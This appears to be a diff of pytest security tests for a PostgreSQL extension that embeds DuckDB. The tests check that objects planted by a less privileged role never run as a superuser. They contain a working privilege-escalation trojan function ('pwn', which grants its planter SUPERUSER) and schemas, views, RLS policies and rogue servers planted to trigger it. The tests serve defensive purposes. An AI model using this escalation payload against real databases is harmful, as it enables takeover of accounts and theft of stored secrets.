@@ -306,6 +306,14 @@ def test_python_client_scans_are_refused_for_everyone(db, world):
     assert q(bob, "SELECT * FROM query($$SELECT 'ok'$$)") == [("ok",)]
 
 
+def test_no_python_object_of_the_backend_is_reachable(db, world):
+    """The Python client would scan variables of the calling frame by name."""
+    for conn in (db.conn, db.connect(world["bob"])):
+        for name in ("sess", "duckdb", "engine", "sql", "statements", "_SCALAR", "GD", "plpy"):
+            e = refused(conn, f"SELECT * FROM {name}", "42P01")
+            assert "Python Object" not in str(e) and ".py" not in str(e)
+
+
 def test_every_function_with_null_and_odd_arguments_never_crashes(db, cluster):
     """Every function DuckDB lists, called with NULL and odd arguments through
     the engine by a superuser; the postmaster never restarts a backend."""
@@ -461,3 +469,150 @@ def test_non_ascii_text_is_fine(db, world):
     assert q(alice, "ATTACH ':memory:' AS scratch; CREATE TABLE scratch.t AS SELECT 1 AS i; "
                     "SELECT count(*)::VARCHAR FROM scratch.t") == [("1",)]
     assert q(alice, "EXPLAIN SELECT 1", "k text, v text")
+
+
+# --- 7. what a less privileged role plants (issue: planted relations, server owners) ----
+
+SPY = """
+CREATE TABLE {s}.spied (who text, at timestamptz DEFAULT now());
+GRANT INSERT, SELECT ON {s}.spied TO PUBLIC;
+CREATE FUNCTION {s}.pwn() RETURNS boolean LANGUAGE plpgsql AS $$
+BEGIN
+  INSERT INTO {s}.spied (who) VALUES (current_user);
+  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
+    EXECUTE format('ALTER ROLE %I SUPERUSER', {mallory});
+  END IF;
+  RETURN true;
+END $$;
+GRANT EXECUTE ON FUNCTION {s}.pwn() TO PUBLIC;
+"""
+SHAPE = "secret_name varchar PRIMARY KEY, secret_type varchar NOT NULL, serialized_secret bytea NOT NULL"
+
+
+@pytest.fixture
+def mallory(db):
+    """A role with CREATE on the database and on schema public, and a spy
+    function that records who runs it (and makes her superuser if it can)."""
+    name = db.role("mallory")
+    db.conn.execute(f'GRANT CREATE ON DATABASE "{db.dbname}" TO "{name}"')
+    db.conn.execute(f'GRANT CREATE ON SCHEMA public TO "{name}"')
+    conn = db.connect(name)
+    conn.execute(f'CREATE SCHEMA "m_{name}"')
+    conn.execute(f'GRANT USAGE ON SCHEMA "m_{name}" TO PUBLIC')
+    conn.execute(SPY.format(s=f'"m_{name}"', mallory=f"'{name}'"))
+    return {"name": name, "conn": conn, "schema": f'"m_{name}"'}
+
+
+def _spied(db, mallory):
+    return db.conn.execute(f"SELECT who FROM {mallory['schema']}.spied").fetchall()
+
+
+def _is_superuser(db, role):
+    return db.conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = %s", (role,)).fetchone()[0]
+
+
+def test_a_view_planted_in_a_schema_named_after_a_superuser_never_runs(db, mallory):
+    victim = db.role("dba", superuser=True)
+    m = mallory["conn"]
+    m.execute(f'CREATE SCHEMA "{victim}"')
+    m.execute(f'CREATE VIEW "{victim}".duckdb_secrets AS SELECT \'x\'::varchar secret_name, \'s3\'::varchar '
+              f"secret_type, '\\x00'::bytea serialized_secret FROM (VALUES (1)) v WHERE {mallory['schema']}.pwn()")
+    m.execute(f'GRANT USAGE ON SCHEMA "{victim}" TO PUBLIC')
+    m.execute(f'GRANT SELECT ON "{victim}".duckdb_secrets TO PUBLIC')
+    dba = db.connect(victim)
+    dba.execute("SELECT * FROM duckdb.secrets()").fetchall()
+    assert q(dba, "SELECT 42::VARCHAR") == [("42",)]
+    assert not _is_superuser(db, mallory["name"]) and _spied(db, mallory) == []
+
+
+def test_a_view_planted_in_public_never_runs(db, mallory):
+    victim = db.role("dba", superuser=True)
+    m = mallory["conn"]
+    m.execute(f"CREATE VIEW public.duckdb_secrets AS SELECT 'x'::varchar secret_name, 's3'::varchar secret_type, "
+              f"'\\x00'::bytea serialized_secret FROM (VALUES (1)) v WHERE {mallory['schema']}.pwn()")
+    m.execute("GRANT SELECT ON public.duckdb_secrets TO PUBLIC")
+    dba = db.connect(victim)
+    notices = []
+    dba.add_notice_handler(lambda d: notices.append(d.message_primary))
+    dba.execute("SELECT * FROM duckdb.secrets()").fetchall()
+    assert not _is_superuser(db, mallory["name"]) and _spied(db, mallory) == []
+    assert any("ignoring public.duckdb_secrets" in n and "not a table" in n for n in notices), notices
+
+
+def test_a_planted_tables_policy_and_defaults_never_run(db, world, mallory):
+    """A table mallory owns at the named place: its RLS policy would run on
+    every read, its defaults on every write, as the victim."""
+    m = mallory["conn"]
+    m.execute(f"CREATE TABLE public.duckdb_secrets ({SHAPE}, note text DEFAULT ({mallory['schema']}.pwn())::text)")
+    m.execute("ALTER TABLE public.duckdb_secrets ENABLE ROW LEVEL SECURITY")
+    m.execute(f"CREATE POLICY p ON public.duckdb_secrets USING ({mallory['schema']}.pwn())")
+    m.execute("GRANT SELECT, INSERT, UPDATE ON public.duckdb_secrets TO PUBLIC")
+    alice = db.connect(world["alice"])              # a non-superuser victim with a secret
+    notices = []
+    alice.add_notice_handler(lambda d: notices.append(d.message_primary))
+    assert [r[0] for r in alice.execute("SELECT name FROM duckdb.secrets()")] == ["team_s3"]
+    assert alice.execute(READ).fetchone() == (10,)
+    assert any("owned by role" in n and "neither the current role nor a superuser" in n for n in notices)
+    for conn in (alice, db.conn):
+        with pytest.raises(psycopg.Error) as e:
+            conn.execute("SELECT duckdb.store_table_secret('team_s3', include_sensitive => true)")
+        assert e.value.sqlstate == "42501" and "owned by role" in e.value.diag.message_primary
+    assert _spied(db, mallory) == [] and not _is_superuser(db, mallory["name"])
+
+
+def test_a_role_cannot_point_the_table_setting_elsewhere(db, world, mallory):
+    """Only the configuration files name the table: a SET names nothing."""
+    m = mallory["conn"]
+    m.execute(f"CREATE TABLE {mallory['schema']}.mine ({SHAPE})")
+    m.execute(f"GRANT SELECT ON {mallory['schema']}.mine TO PUBLIC")
+    alice = db.connect(world["alice"])
+    alice.execute(f"SET duckdb.secret_storage_table = '{mallory['schema']}.mine'")
+    assert [r[2] for r in alice.execute("SELECT name, server, origin FROM duckdb.secrets()")] == ["server"]
+
+
+@pytest.fixture
+def lesser_admin(db):
+    """A non-superuser with USAGE on the wrapper: may create servers."""
+    name = db.role("admin")
+    db.conn.execute(f'GRANT USAGE ON FOREIGN DATA WRAPPER duckdb TO "{name}"')
+    db.conn.execute(f'GRANT EXECUTE ON FUNCTION duckdb.query(text) TO "{name}"')
+    return name, db.connect(name)
+
+
+def test_a_lesser_owners_server_never_steers_a_superuser(db, lesser_admin, counter):
+    name, admin = lesser_admin
+    admin.execute(f"CREATE SERVER evil TYPE 's3' FOREIGN DATA WRAPPER duckdb OPTIONS (endpoint "
+                  f"'127.0.0.1:{counter.port}', url_style 'path', use_ssl 'false', scope 's3://bars/')")
+    admin.execute("CREATE USER MAPPING FOR PUBLIC SERVER evil OPTIONS (key_id 'k', secret 's')")
+    assert "evil" not in [r[0] for r in db.conn.execute("SELECT name FROM duckdb.secrets()")]
+    with pytest.raises(psycopg.Error):
+        q(db.conn, "COPY (SELECT 'payroll' AS x) TO 's3://bars/export.csv'")
+    assert counter.hits == []
+    # The owner itself has the secret, but its endpoint opens nothing.
+    assert "evil" in [r[0] for r in admin.execute("SELECT name FROM duckdb.secrets()")]
+    e = refused(admin, "SELECT * FROM read_text('s3://bars/x')")
+    assert f"127.0.0.1:{counter.port}" in e.diag.message_primary
+    assert counter.hits == []
+
+
+def test_a_lesser_owners_http_server_opens_no_prefix(db, world, lesser_admin, counter):
+    name, admin = lesser_admin
+    admin.execute(f"CREATE SERVER web TYPE 'http' FOREIGN DATA WRAPPER duckdb "
+                  f"OPTIONS (scope 'http://127.0.0.1:{counter.port}/internal/')")
+    admin.execute(f'GRANT USAGE ON FOREIGN SERVER web TO "{world["bob"]}"')
+    for conn in (admin, db.connect(world["bob"])):
+        refused(conn, f"SELECT * FROM read_text('http://127.0.0.1:{counter.port}/internal/x')")
+    assert counter.hits == []
+
+
+def test_an_administrator_may_trust_an_owner_in_the_configuration_files(db, world, lesser_admin, counter):
+    from conftest import file_setting
+    name, admin = lesser_admin
+    admin.execute(f"CREATE SERVER web TYPE 'http' FOREIGN DATA WRAPPER duckdb "
+                  f"OPTIONS (scope 'http://127.0.0.1:{counter.port}/internal/')")
+    admin.execute(f'GRANT USAGE ON FOREIGN SERVER web TO "{world["bob"]}"')
+    with file_setting(db.conn, "duckdb.trusted_server_owners", name):
+        bob = db.connect(world["bob"])
+        assert q(bob, f"SELECT * FROM read_text('http://127.0.0.1:{counter.port}/internal/x')",
+                 "f text, c text, s bigint, m timestamptz") and counter.hits
+        assert "web" in [r[0] for r in db.connect().execute("SELECT name FROM duckdb.secrets()")]
